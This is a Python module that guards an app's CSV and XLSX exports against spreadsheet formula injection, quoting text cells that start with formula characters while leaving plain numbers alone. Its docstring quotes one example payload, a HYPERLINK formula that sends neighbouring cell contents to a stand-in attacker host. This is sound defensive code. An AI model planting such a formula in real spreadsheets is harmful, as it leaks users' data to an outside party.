"""Formula injection: every CSV and XLSX the app writes goes through here, so a text cell never runs as a formula.

Excel and LibreOffice treat a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
(`=HYPERLINK("http://evil.example/?d="&B3, "Voir")` leaks the neighbouring cells). A CSV text cell gets a
leading apostrophe; an XLSX text cell is written as a string cell with the quote prefix, never a formula.
Numbers stay numbers: a plain number such as `-4` or `-2,5` is left as it is.
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number as the exports write it (decimal comma) or as a spreadsheet reads it: never a formula.
_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def needs_quoting(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def inert_text(value):
    """The CSV form of a cell: text a spreadsheet would run gets a leading apostrophe; other values unchanged."""
    if isinstance(value, str) and needs_quoting(value):
        return "'" + value
    return value


class _InertWriter:
    """csv.writer whose every text cell is made inert."""

    def __init__(self, buffer):
        self._writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")

    def writerow(self, row) -> None:
        self._writer.writerow([inert_text(value) for value in row])


def csv_writer(buffer) -> _InertWriter:
    """The app's CSV dialect (semicolons and CRLF, for French Excel), with formula injection neutralised."""
    return _InertWriter(buffer)


def append_row(sheet, values) -> None:
    """`sheet.append(values)`, with every text cell a string cell (openpyxl makes `=…` a formula otherwise)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if cell.value.startswith(FORMULA_STARTS):
                cell.quotePrefix = True  # the text stays text even when the user edits the cell
